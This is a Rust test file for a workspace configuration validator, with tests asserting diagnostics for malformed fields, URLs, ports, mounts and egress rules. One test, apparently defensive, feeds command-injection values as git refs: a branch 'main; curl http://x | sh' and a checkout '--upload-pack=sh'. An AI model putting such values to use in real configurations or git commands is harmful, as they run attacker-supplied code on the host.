//! One test per validation rule: each asserts the code, the field path and the line.

use cordium_spec::{SourceId, codes, load};

/// `(code, path, line)` of every diagnostic of `text`.
fn check(text: &str) -> Vec<(&'static str, String, u32)> {
    load(text, SourceId(0))
        .diagnostics
        .into_iter()
        .map(|d| (d.code, d.path, d.location.map_or(0, |l| l.line)))
        .collect()
}

fn ws(spec: &str) -> String {
    format!("apiVersion: cordium/v1\nkind: Workspace\nmetadata:\n  name: my-ws\nspec:\n{spec}")
}

fn expect(text: &str, code: &'static str, path: &str, line: u32) {
    let found = check(text);
    assert!(
        found
            .iter()
            .any(|(c, p, l)| *c == code && p == path && *l == line),
        "expected {code} at {path} line {line}, found {found:#?}"
    );
}

#[test]
fn valid_documents_from_upstream_tests_have_no_diagnostics() {
    for spec in [
        "  {}\n",
        "  image: {}\n",
        "  runtime: {}\n",
        "  runtime:\n    envVars: null\n",
        "  runtime:\n    envVars: []\n    tasks:\n      - {name: cmd-1, run: ls -la, type: ON_CREATE}\n      - {name: cmd-2, run: podman version, type: POST_START}\n",
        "  image:\n    registry: {url: example.com/org/image}\n",
        "  image:\n    git: {url: github.com/example/example}\n",
        "  repository: {url: https://github.com/example/example.git}\n",
        "  applications:\n    - {name: app1, port: 80}\n    - {name: app2, port: 8080}\n    - {name: app3, port: 80}\n",
        "  repository:\n    url: https://github.com/${{ vars.ORG }}/x\n    cloneOptions: {branch: '${{ vars.BRANCH }}'}\n",
    ] {
        assert_eq!(check(&ws(spec)), vec![], "{spec}");
    }
}

#[test]
fn unknown_field_suggests_the_closest() {
    let text = ws("  runtime:\n    enVars: []\n");
    expect(&text, codes::UNKNOWN_FIELD, "spec.runtime.enVars", 7);
    let d = &load(&text, SourceId(0)).diagnostics[0];
    assert_eq!(d.help.as_deref(), Some("did you mean `envVars`?"));
}

#[test]
fn wrong_type_names_expected_and_found() {
    let text = ws("  isEphemeral: yes\n");
    expect(&text, codes::TYPE, "spec.isEphemeral", 6);
    let d = &load(&text, SourceId(0)).diagnostics[0];
    assert_eq!(d.message, "expected a boolean, found a string");
}

#[test]
fn three_mistakes_give_three_diagnostics() {
    let text = ws(
        "  isEphemeral: 3\n  runtime:\n    tasks:\n      - run: make\n  repository:\n    url: http://example.com/x\n",
    );
    let found = check(&text);
    assert_eq!(
        found,
        vec![
            (codes::TYPE, "spec.isEphemeral".into(), 6),
            (codes::TASK_TYPE, "spec.runtime.tasks[0].type".into(), 9),
            (codes::URL, "spec.repository.url".into(), 11),
        ]
    );
}

#[test]
fn unknown_enum_value() {
    expect(
        &ws("  runtime:\n    tasks:\n      - {run: x, type: ON_CREAT}\n"),
        codes::UNKNOWN_VARIANT,
        "spec.runtime.tasks[0].type",
        8,
    );
}

#[test]
fn task_type_is_required() {
    expect(
        &ws("  runtime:\n    tasks:\n      - {name: cmd-1, run: ls -la}\n"),
        codes::TASK_TYPE,
        "spec.runtime.tasks[0].type",
        8,
    );
}

#[test]
fn task_run_is_required() {
    expect(
        &ws("  runtime:\n    tasks:\n      - {type: ON_CREATE, name: x}\n"),
        codes::REQUIRED,
        "spec.runtime.tasks[0].run",
        8,
    );
}

#[test]
fn env_var_needs_a_value() {
    expect(
        &ws("  runtime:\n    envVars:\n      - key: key1\n"),
        codes::ENV_VALUE,
        "spec.runtime.envVars[0]",
        8,
    );
}

#[test]
fn env_var_value_and_secret_are_exclusive() {
    expect(
        &ws("  runtime:\n    envVars:\n      - {key: A, value: x, fromSecret: s}\n"),
        codes::ONE_OF,
        "spec.runtime.envVars[0].fromSecret",
        8,
    );
}

#[test]
fn duplicate_env_key_names_both_places() {
    let text =
        ws("  runtime:\n    envVars:\n      - {key: A, value: x}\n      - {key: A, value: y}\n");
    expect(&text, codes::DUPLICATE, "spec.runtime.envVars[1].key", 9);
    let d = &load(&text, SourceId(0)).diagnostics[0];
    assert_eq!(d.related[0].location.line, 8);
}

#[test]
fn env_key_length_and_count() {
    let long = "K".repeat(65);
    expect(
        &ws(&format!(
            "  runtime:\n    envVars:\n      - {{key: {long}, value: x}}\n"
        )),
        codes::LENGTH,
        "spec.runtime.envVars[0].key",
        8,
    );
    let many: String = (0..129)
        .map(|i| format!("      - {{key: K{i}, value: x}}\n"))
        .collect();
    expect(
        &ws(&format!("  runtime:\n    envVars:\n{many}")),
        codes::COUNT,
        "spec.runtime.envVars",
        8,
    );
}

#[test]
fn registry_needs_a_url() {
    expect(
        &ws("  image:\n    registry: {}\n"),
        codes::REQUIRED,
        "spec.image.registry.url",
        7,
    );
}

#[test]
fn image_choices_are_exclusive() {
    expect(
        &ws("  image:\n    registry: {url: a}\n    dockerfile: {inline: FROM x}\n"),
        codes::ONE_OF,
        "spec.image",
        8,
    );
}

#[test]
fn git_image_url_must_not_be_empty() {
    expect(
        &ws("  image:\n    git: {url: ''}\n"),
        codes::URL,
        "spec.image.git.url",
        7,
    );
}

#[test]
fn repositories_must_be_https() {
    expect(
        &ws("  repository: {url: 'http://example.com/example/example'}\n"),
        codes::URL,
        "spec.repository.url",
        6,
    );
    expect(
        &ws("  repository: {url: github.com/example/example}\n"),
        codes::URL,
        "spec.repository.url",
        6,
    );
}

#[test]
fn git_refs_are_checked() {
    expect(
        &ws(
            "  repository:\n    url: https://x.io/a\n    cloneOptions: {branch: 'main; curl http://x | sh'}\n",
        ),
        codes::GIT_REF,
        "spec.repository.cloneOptions.branch",
        8,
    );
    expect(
        &ws("  image:\n    git: {url: https://x.io/a, checkout: --upload-pack=sh}\n"),
        codes::GIT_REF,
        "spec.image.git.checkout",
        7,
    );
}

#[test]
fn additional_repositories_need_name_url_and_are_unique() {
    let text = ws(
        "  additionalRepositories:\n    - {name: lib, repository: {url: https://x.io/a}}\n    - {name: lib, repository: {url: https://x.io/b}}\n    - {name: other, repository: {}}\n",
    );
    expect(
        &text,
        codes::DUPLICATE,
        "spec.additionalRepositories[1].name",
        8,
    );
    expect(
        &text,
        codes::REQUIRED,
        "spec.additionalRepositories[2].repository.url",
        9,
    );
    expect(
        &ws(
            "  additionalRepositories:\n    - {name: Bad_Name, repository: {url: https://x.io/a}}\n",
        ),
        codes::NAME,
        "spec.additionalRepositories[0].name",
        7,
    );
}

#[test]
fn applications_unique_with_valid_ports_and_one_default() {
    expect(
        &ws("  applications:\n    - {name: app1, port: 80}\n    - {name: app1, port: 8080}\n"),
        codes::DUPLICATE,
        "spec.applications[1].name",
        8,
    );
    expect(
        &ws("  applications:\n    - {name: app1}\n"),
        codes::PORT,
        "spec.applications[0].port",
        7,
    );
    expect(
        &ws("  applications:\n    - {name: app1, port: 80}\n    - {name: app2, port: -80}\n"),
        codes::PORT,
        "spec.applications[1].port",
        8,
    );
    expect(
        &ws(
            "  applications:\n    - {name: app1, port: 80, isDefault: true}\n    - {name: app2, port: 8080, isDefault: true}\n",
        ),
        codes::DEFAULT_APPLICATION,
        "spec.applications[1].isDefault",
        8,
    );
}

#[test]
fn mount_paths_reserved_and_conflicting() {
    expect(
        &ws(
            "  runtime:\n    volumeMounts:\n      - {volumeRef: {name: d}, mountPath: /proc/self}\n",
        ),
        codes::MOUNT_PATH,
        "spec.runtime.volumeMounts[0].mountPath",
        8,
    );
    expect(
        &ws(
            "  runtime:\n    volumeMounts:\n      - {volumeRef: {name: d}, mountPath: /data}\n      - {volumeRef: {name: c}, mountPath: /data/cache}\n",
        ),
        codes::MOUNT_CONFLICT,
        "spec.runtime.volumeMounts[1].mountPath",
        9,
    );
    expect(
        &ws(
            "  runtime:\n    volumeMounts:\n      - {volumeRef: {name: d}, mountPath: /data}\n      - {volumeRef: {name: d}, mountPath: /data2}\n",
        ),
        codes::MOUNT_CONFLICT,
        "spec.runtime.volumeMounts[1].volumeRef",
        9,
    );
    expect(
        &ws("  runtime:\n    volumeMounts:\n      - {mountPath: /data}\n"),
        codes::REQUIRED,
        "spec.runtime.volumeMounts[0].volumeRef",
        8,
    );
    let many: String = (0..17)
        .map(|i| format!("      - {{volumeRef: {{name: v{i}}}, mountPath: /d{i}}}\n"))
        .collect();
    expect(
        &ws(&format!("  runtime:\n    volumeMounts:\n{many}")),
        codes::COUNT,
        "spec.runtime.volumeMounts",
        8,
    );
}

#[test]
fn capabilities_match_the_pattern() {
    expect(
        &ws("  runtime:\n    capabilities: {add: [cap_net_admin]}\n"),
        codes::CAPABILITY,
        "spec.runtime.capabilities.add[0]",
        7,
    );
}

#[test]
fn limits_have_bounds() {
    expect(
        &ws("  limit: {cpu: {millicores: 1000001}}\n"),
        codes::LIMIT,
        "spec.limit.cpu.millicores",
        6,
    );
    expect(
        &ws("  limit: {memory: {megabytes: -1}}\n"),
        codes::TYPE,
        "spec.limit.memory.megabytes",
        6,
    );
}

#[test]
fn lengths_are_checked() {
    let long = "x".repeat(1025);
    expect(
        &ws(&format!("  runtime:\n    cmd: {long}\n")),
        codes::LENGTH,
        "spec.runtime.cmd",
        7,
    );
    expect(
        &ws("  image:\n    dockerfile: {inline: ''}\n"),
        codes::LENGTH,
        "spec.image.dockerfile.inline",
        7,
    );
}

#[test]
fn names_have_a_shape_per_kind() {
    expect(
        "apiVersion: cordium/v1\nkind: Template\nmetadata:\n  name: a.b.c.d\n",
        codes::NAME,
        "metadata.name",
        4,
    );
    assert_eq!(
        check("apiVersion: cordium/v1\nkind: Template\nmetadata:\n  name: ml-env.research.jdoe\n"),
        vec![]
    );
    expect(
        "apiVersion: cordium/v1\nkind: Space\nmetadata:\n  name: Team\n",
        codes::NAME,
        "metadata.name",
        4,
    );
}

#[test]
fn var_names_must_be_referenceable_and_unique() {
    expect(
        &ws("  vars:\n    - {name: 1x, value: a}\n"),
        codes::NAME,
        "spec.vars[0].name",
        7,
    );
    expect(
        &ws("  vars:\n    - {name: A, value: a}\n    - {name: A, value: b}\n"),
        codes::DUPLICATE,
        "spec.vars[1].name",
        8,
    );
}

#[test]
fn space_default_above_max_names_both() {
    let text = "apiVersion: cordium/v1\nkind: Space\nmetadata: {name: team.cordium}\nspec:\n  limit:\n    defaultLimit: {cpu: {millicores: 4000}}\n    maxLimit: {cpu: {millicores: 2000}}\n";
    expect(
        text,
        codes::LIMIT,
        "spec.limit.defaultLimit.cpu.millicores",
        6,
    );
    let d = &load(text, SourceId(0)).diagnostics[0];
    assert_eq!(d.related[0].location.line, 7);
}

#[test]
fn cluster_build_limit_above_max() {
    let text = "apiVersion: cordium/v1\nkind: ClusterConfig\nspec:\n  workspace:\n    limit:\n      buildLimit: {memory: {megabytes: 9000}}\n      maxLimit: {memory: {megabytes: 8000}}\n";
    expect(
        text,
        codes::LIMIT,
        "spec.workspace.limit.buildLimit.memory.megabytes",
        6,
    );
}

#[test]
fn kinds_and_api_versions() {
    expect(
        "apiVersion: cordium/v1\nkind: Workspce\n",
        codes::KIND,
        "kind",
        2,
    );
    expect(
        "apiVersion: v2\nkind: Space\n",
        codes::KIND,
        "apiVersion",
        1,
    );
    expect("metadata: {name: x}\n", codes::KIND, "", 1);
}

#[test]
fn secrets_need_data_and_ssh_keys_take_none() {
    expect(
        "apiVersion: cordium/v1\nkind: Secret\nmetadata: {name: db}\n",
        codes::REQUIRED,
        "data",
        1,
    );
    expect(
        "apiVersion: cordium/v1\nkind: UserSecret\nmetadata: {name: k}\nspec: {type: SSH_KEY}\ndata: {value: x}\n",
        codes::NOT_ALLOWED,
        "data",
        5,
    );
}

#[test]
fn user_config_env_uses_user_secrets() {
    expect(
        "apiVersion: cordium/v1\nkind: UserConfig\nspec:\n  envVars:\n    - {key: A, fromSecret: x}\n",
        codes::UNKNOWN_FIELD,
        "spec.envVars[0].fromSecret",
        5,
    );
}

#[test]
fn egress_rules_need_cidrs() {
    expect(
        &ws(
            "  runtime:\n    network:\n      egress:\n        rules:\n          - {action: DENY}\n",
        ),
        codes::REQUIRED,
        "spec.runtime.network.egress.rules[0].cidrs",
        10,
    );
}

#[test]
fn egress_destinations_are_networks_and_ports_are_in_range() {
    let rule = |body: &str| {
        ws(&format!(
            "  runtime:\n    network:\n      egress:\n        rules:\n          - {body}\n"
        ))
    };
    expect(
        &rule("{action: DENY, cidrs: [10.0.0.0/8, 10.0.0.0/40]}"),
        codes::CIDR,
        "spec.runtime.network.egress.rules[0].cidrs[1]",
        10,
    );
    expect(
        &rule("{action: ALLOW, cidrs: [10.0.0.0/8], ports: [443, 70000]}"),
        codes::PORT,
        "spec.runtime.network.egress.rules[0].ports[1]",
        10,
    );
}

#[test]
fn syntax_errors_have_a_place() {
    expect("spec:\n  a: [1, 2\n", codes::SYNTAX, "", 2);
}

#[test]
fn multi_document_files_are_each_checked() {
    let text = "apiVersion: cordium/v1\nkind: Space\nmetadata: {name: team}\n---\napiVersion: cordium/v1\nkind: Template\nspec:\n  bogus: 1\n";
    let loaded = load(text, SourceId(0));
    assert_eq!(loaded.documents.len(), 2);
    expect(text, codes::UNKNOWN_FIELD, "spec.bogus", 8);
}
